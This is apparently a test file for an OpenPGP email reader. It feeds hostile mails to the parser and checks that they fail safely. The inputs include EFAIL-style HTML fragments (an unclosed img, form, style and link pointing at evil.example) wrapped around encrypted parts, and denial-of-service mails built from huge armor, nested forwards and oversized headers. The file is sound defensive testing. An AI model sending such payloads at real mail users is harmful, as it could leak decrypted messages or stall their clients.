/** What attackers send: each ends within seconds, within memory, and without what it was after. */
import type { PrivateKey } from 'openpgp';
import { beforeAll, describe, expect, it } from 'vitest';
import { addsWords, sayDifferentThings } from '../../src/message/alternatives.js';
import { findArmor } from '../../src/message/armor.js';
import { attachmentName, safeFileName } from '../../src/message/attachment-name.js';
import { calendarText } from '../../src/message/calendar-text.js';
import { findClearSigned, withoutClearSigning } from '../../src/message/clear-signed.js';
import { textOfHtml } from '../../src/message/html.js';
import { legacyDisplayPart, withoutRepeatedFields } from '../../src/message/legacy-display.js';
import { lostBoundary } from '../../src/message/lost-boundary.js';
import type { Message } from '../../src/message/message.js';
import type { Part } from '../../src/message/mime-tree.js';
import { applyOpenPgpSettings } from '../../src/message/openpgp-settings.js';
import { readPlaintext } from '../../src/message/plaintext.js';
import { manyLines } from '../../src/message/printable.js';
import { readMessage } from '../../src/message/read.js';
import { textOfPart } from '../../src/message/text-part.js';
import { unzipsWithin } from '../../src/message/zip-size.js';
import { processorTime } from '../processor-time.js';
import {
  entity,
  filePart,
  mixedMail,
  newKey,
  personMail,
  pgpMime,
  pgpMimeMail,
  sealed,
  textPart,
} from './mails.js';

const SECRET = 'The login leaks passwords.';
const HIDDEN = ['Subject: ...'];
const OWN = { addresses: ['security@acme.example'], loop: null };
const MEGABYTE = 1_048_576;

let ours: PrivateKey;

beforeAll(async () => {
  applyOpenPgpSettings();
  ours = await newKey('ours');
});

async function read(mail: Buffer): Promise<Message> {
  return (await readMessage(mail, [ours], OWN)).message;
}

/** Milliseconds that it takes. */
async function timeOf(act: () => unknown): Promise<number> {
  const start = processorTime();
  await act();
  return processorTime() - start;
}

function leaf(body: string, type = 'text/plain', parameters: Record<string, string> = {}): Part {
  return {
    type,
    parameters: new Map(Object.entries(parameters)),
    boundary: null,
    filename: null,
    disposition: null,
    header: Buffer.alloc(0),
    children: [],
    body: Buffer.from(body),
  };
}

describe('EFAIL: no text holds both what was decrypted and what stood around it', () => {
  const apart = (message: Message) => {
    expect(message.bodies.some(({ origin, text }) => origin === 'decrypted' && text.includes(SECRET))).toBe(
      true,
    );
    for (const { origin, text } of message.bodies) {
      expect(text.includes(SECRET)).toBe(origin === 'decrypted');
      if (origin === 'decrypted') expect(text).not.toMatch(/evil|<img|src=/);
    }
  };

  it.each([
    ['an <img> left open before it', '<img src="https://evil.example/', '">'],
    ['a form before it', '<form action="https://evil.example/"><textarea name="x">', '</textarea></form>'],
    ['a style before it', '<style>body { background: url("https://evil.example/', '") }</style>'],
    ['a link before it', '<a href="https://evil.example/', '">click</a>'],
  ])('with %s', async (_name, before, after) => {
    const { content, body } = pgpMime(await sealed(entity(SECRET), ours));
    const encrypted = `${content[1]}\n\n${body}`;
    apart(
      await read(mixedMail(HIDDEN, [textPart(before, 'text/html'), encrypted, textPart(after, 'text/html')])),
    );
  });

  it('with an inline message among HTML parts', async () => {
    const parts = [
      textPart('<img src="https://evil.example/', 'text/html'),
      textPart(await sealed(SECRET, ours)),
      textPart('">', 'text/html'),
    ];
    apart(await read(mixedMail(HIDDEN, parts)));
  });

  it('with what was decrypted being HTML', async () => {
    const inner = `Content-Type: text/html\r\n\r\n<p>${SECRET}</p>`;
    const { content, body } = pgpMime(await sealed(inner, ours));
    apart(
      await read(
        mixedMail(HIDDEN, [
          textPart('<img src="https://evil.example/', 'text/html'),
          `${content[1]}\n\n${body}`,
        ]),
      ),
    );
  });

  it('with the message in an attribute, where it is no message', async () => {
    const html = `<img src="https://evil.example/?${await sealed(SECRET, ours)}">`;
    const message = await read(personMail([...HIDDEN, 'Content-Type: text/html'], html));
    expect(JSON.stringify(message.bodies)).not.toContain(SECRET);
  });
});

describe('a mail ends within seconds that is', () => {
  const line = `${'A'.repeat(64)}\n`;
  const embedded = (inner: string) => `Content-Type: message/rfc822\n\nFrom: a@b.example\n${inner}`;

  it.each<[string, () => Promise<Buffer> | Buffer]>([
    [
      'a hundred megabytes of armor',
      () =>
        personMail(
          HIDDEN,
          `-----BEGIN PGP MESSAGE-----\n\n${line.repeat(1_600_000)}-----END PGP MESSAGE-----\n`,
        ),
    ],
    [
      'a hundred megabytes of armor that never ends',
      () => personMail(HIDDEN, `-----BEGIN PGP MESSAGE-----\n\n${line.repeat(1_600_000)}`),
    ],
    [
      'a thousand forwarded messages of a thousand parts',
      () => {
        const inner = embedded(
          `Content-Type: multipart/mixed; boundary=ii\n\n${'--ii\n\nx\n'.repeat(900)}--ii--`,
        );
        return mixedMail(
          HIDDEN,
          Array.from({ length: 900 }, () => inner),
        );
      },
    ],
    [
      'five hundred forwarded messages, one in the other',
      () =>
        personMail(
          [...HIDDEN, 'Content-Type: message/rfc822'],
          'Content-Type: message/rfc822\n\n'.repeat(500),
        ),
    ],
    [
      'a hundred thousand recipients in its protected header',
      async () => {
        const header = `To: ${'x@y.example,\r\n '.repeat(50_000)}z@y.example\r\nContent-Type: text/plain; hp="cipher"`;
        return pgpMimeMail(HIDDEN, await sealed(`${header}\r\n\r\n${SECRET}`, ours));
      },
    ],
    [
      'twenty thousand HP-Outer fields',
      async () => {
        const header = `${'HP-Outer: Subject: x\r\n'.repeat(20_000)}Content-Type: text/plain; hp="cipher"`;
        return pgpMimeMail(HIDDEN, await sealed(`${header}\r\n\r\n${SECRET}`, ours));
      },
    ],
    [
      'a megabyte of a file name',
      () => mixedMail(HIDDEN, [`Content-Type: image/png; name="${'=?utf-8?q?a?= '.repeat(60_000)}"\n\nx`]),
    ],
    [
      'a thousand alternatives',
      () =>
        personMail(
          [...HIDDEN, 'Content-Type: multipart/alternative; boundary=aa'],
          `${`--aa\nContent-Type: text/html\n\n<p>${SECRET}</p>\n`.repeat(900)}--aa--`,
        ),
    ],
    [
      'ten megabytes of data: URLs',
      () =>
        personMail(
          [...HIDDEN, 'Content-Type: text/html'],
          `<img src="data:image/png;base64,${'A'.repeat(10 * MEGABYTE)}">`,
        ),
    ],
    [
      'twenty megabytes of a picture',
      () =>
        mixedMail(HIDDEN, [textPart('Hi'), filePart('a.png', Buffer.alloc(20 * MEGABYTE, 1), 'image/png')]),
    ],
    [
      'a million beginnings of armor, each quoted in its own way',
      () => {
        const letters = (at: number) =>
          [...at.toString(26)].map(digit => String.fromCharCode(65 + Number.parseInt(digit, 26)));
        const quotes = Array.from({ length: 1_000_000 }, (_, at) => letters(at).join(''));
        return personMail(HIDDEN, quotes.map(quote => `${quote}: -----BEGIN PGP MESSAGE-----\n`).join(''));
      },
    ],
    [
      'forty megabytes of its boundary on one line',
      () =>
        personMail(
          [...HIDDEN, 'Content-Type: multipart/signed; boundary=b'],
          `${'--b'.repeat(14_000_000)}\n--b\n\nx\n--b\nContent-Type: application/pgp-signature\n\nx\n--b--\n`,
        ),
    ],
    [
      'a thousand named armors that are none',
      () =>
        mixedMail(
          HIDDEN,
          Array.from({ length: 900 }, (_, at) =>
            filePart(`${at}.asc`, Buffer.from('-----BEGIN PGP MESSAGE-----\n\nAAAA')),
          ),
        ),
    ],
  ])('%s', async (_name, make) => {
    const mail = await make();
    expect(await timeOf(() => read(mail))).toBeLessThan(50_000);
  });
});

describe('no more than twenty messages are opened in one mail', () => {
  const decrypted = (message: Message) =>
    message.bodies.filter(({ origin }) => origin === 'decrypted').length;

  it('side by side', async () => {
    const armors = await Promise.all(Array.from({ length: 30 }, (_, at) => sealed(`${at}`, ours)));
    expect(decrypted(await read(personMail(HIDDEN, armors.join('\n'))))).toBe(20);
  });

  it('and inside one another', async () => {
    const five = (await Promise.all(Array.from({ length: 5 }, (_, at) => sealed(`${at}`, ours)))).join('\n');
    const armors = await Promise.all(Array.from({ length: 10 }, () => sealed(five, ours)));
    expect(decrypted(await read(personMail(HIDDEN, armors.join('\n'))))).toBe(10);
  });
});

it('HTML nested beyond what is parsed keeps its words', () => {
  const html = `<p>before</p>${'<div>'.repeat(100_000)}it &amp; leaks${'</div>'.repeat(100_000)}<p>after`;
  expect(
    textOfHtml(html)
      .text.split('\n')
      .map(line => line.trim()),
  ).toEqual(['before', 'it & leaks', 'after']);
});

it('as much HTML of a mail is turned into text as a person writes, in however many parts', async () => {
  const part = (at: number) => textPart(`<p>${at}</p>${'<td>x<tr>'.repeat(220_000)}`, 'text/html');
  const message = await read(
    mixedMail(
      HIDDEN,
      Array.from({ length: 8 }, (_, at) => part(at)),
    ),
  );
  const words = message.bodies.map(({ text }) => text).join();
  expect(words).toMatch(/^0$/m);
  expect(words).toMatch(/^2$/m);
  expect(words).not.toMatch(/^5$/m);
});

it('text that flows on for longer than anybody writes keeps its words, line by line', () => {
  const flowed = { format: 'flowed' };
  const words = (times: number) =>
    textOfPart(leaf('it \nleaks\n'.repeat(times), 'text/plain', flowed), false, { htmlLeft: 0 }).text.split(
      '\n',
      2,
    );
  expect(words(10)).toEqual(['it leaks', 'it leaks']);
  expect(words(MEGABYTE)).toEqual(['it ', 'leaks']);
});

it('a mail whose parts have headers of megabytes is refused before they are taken apart', async () => {
  const header = `Content-Type: text/plain; ${Array.from({ length: 60_000 }, (_, at) => `a${at}*0*=x`).join('; ')}`;
  const parts = Array.from({ length: 20 }, () => `${header}\n\nx`);
  await expect(read(mixedMail(HIDDEN, parts))).rejects.toThrow('header size');
});

it('a line end is one wherever it stands in a long text', () => {
  const text = `${'\u0000'.repeat(7)}${'it\r\n'.repeat(MEGABYTE)}`;
  expect(manyLines(text)).toBe('it\n'.repeat(MEGABYTE));
  expect(manyLines(` ${text}`)).toBe(` ${'it\n'.repeat(MEGABYTE)}`);
});

describe('a picture is a file, and no words', () => {
  it('however large', async () => {
    const message = await read(
      mixedMail(HIDDEN, [textPart('Hi'), filePart('a.png', Buffer.alloc(20 * MEGABYTE, 1), 'image/png')]),
    );
    expect(message.bodies.map(({ text }) => text.trim())).toEqual(['Hi']);
    expect(message.attachments[0]?.content.byteLength).toBe(20 * MEGABYTE);
  });
});

describe('an encoded word in an encoded word is decoded once', () => {
  const nest = (text: string, times: number): string =>
    times === 0 ? text : nest(`=?utf-8?b?${Buffer.from(text).toString('base64')}?=`, times - 1);

  it('in a subject', async () => {
    expect((await read(personMail([`Subject: ${nest('Security Alert', 2)}`]))).envelope.subject).toBe(
      nest('Security Alert', 1),
    );
  });

  it('in a protected subject', async () => {
    const message = await read(
      pgpMimeMail(HIDDEN, await sealed(entity(SECRET, nest('Security Alert', 2)), ours)),
    );
    expect(message.protectedHeader?.subject).toBe(nest('Security Alert', 1));
  });

  it('in a file name', async () => {
    const part = `Content-Type: image/png; name="${nest('a.exe', 2)}"\nContent-Disposition: attachment\n\nx`;
    expect((await read(mixedMail(HIDDEN, [part]))).attachments[0]?.filename).toBe(nest('a.exe', 1));
  });
});

/** Characters; what is quadratic takes half a minute for so many. */
const LENGTH = MEGABYTE / 2;

/** What they are made of. */
const SEEDS = [
  '-----BEGIN PGP MESSAGE-----\n',
  '-----BEGIN PGP MESSAGE----- -----END PGP MESSAGE----- ',
  '-----BEGIN PGP MESSAGE-----\u00a0',
  `-----BEGIN PGP MESSAGE-----\n\n${'A'.repeat(64)}\n`,
  '-----BEGIN PGP SIGNED MESSAGE-----\n',
  '-----BEGIN PGP SIGNED MESSAGE-----\nHash: x\n\n- a\n-----BEGIN PGP SIGNATURE-----\n',
  '-----BEGIN PGP SIGNED MESSAGE-----\n\n-----BEGIN PGP SIGNATURE-----\n',
  '-----BEGIN PGP SIGNATURE-----\n',
  '> -----BEGIN PGP SIGNED MESSAGE-----\n> \n',
  '>'.repeat(60),
  '> ',
  '=20',
  '=3D',
  'a \n',
  ' \n',
  ' ',
  '\n',
  '\u00a0',
  'Subject: x\n',
  'A-',
  'a:',
  '--a\nContent-Type: x\n',
  '--',
  'SUMMARY;a',
  'SUMMARY:\\n\n ',
  'http://',
  'www.',
  'a',
  '報',
  '\ufdfa',
  '\u0300',
  '.',
  '/',
  '<',
  '<div>',
  '<div></x>',
  '<x></X/><y>',
  '</div>',
  '<table><tr><td>',
  '<table>',
  '<tbody>',
  '<td>a',
  '<pre>',
  '<blockquote>',
  '<ol><li>',
  '<a href=x>',
  '<!--',
  '<![if x]>',
  '&#',
  '&nbsp;',
];

/** Everything that reads hostile text by rules of its own. */
const READERS: readonly (readonly [string, (text: string) => unknown])[] = [
  ['armor', findArmor],
  ['clear signing', withoutClearSigning],
  ['clear-signed blocks', findClearSigned],
  ['repeated fields', withoutRepeatedFields],
  [
    'a legacy display part',
    text =>
      legacyDisplayPart({
        ...leaf(''),
        type: 'multipart/mixed',
        children: [leaf(text, 'text/plain', { 'protected-headers': 'v1' })],
      }),
  ],
  ['a lost boundary', text => lostBoundary(leaf(text, 'multipart/mixed'))],
  [
    'flowed text',
    text => textOfPart(leaf(text, 'text/plain', { format: 'flowed', delsp: 'yes' }), true, { htmlLeft: 0 }),
  ],
  ['HTML', text => textOfHtml(text, { legacyDisplay: true })],
  ['alternatives', text => [sayDifferentThings(text, `${text} x`), addsWords(text, `${text} x`)]],
  ['a calendar', calendarText],
  ['a file name', text => [attachmentName(text), safeFileName(text, 1)]],
  [
    'a plaintext',
    text =>
      readPlaintext(
        { form: 'pgp-mime', source: text, at: leaf(''), filename: null, isWhole: true, isSignedOnly: false },
        Buffer.from(text),
        true,
      ),
  ],
  ['a zip archive', text => unzipsWithin(Buffer.from(text))],
];

describe.each(READERS)('half a megabyte of anything takes no more than its length, for %s', (_name, act) => {
  it.each(SEEDS.map(seed => [JSON.stringify(seed.slice(0, 40)), seed] as const))(
    '%s',
    async (_seed, seed) => {
      const text = seed.repeat(Math.ceil(LENGTH / seed.length));
      for (const start of ['', '-----BEGIN PGP SIGNED MESSAGE-----\n\n']) {
        expect(await timeOf(() => act(start + text))).toBeLessThan(10_000);
      }
    },
  );
});
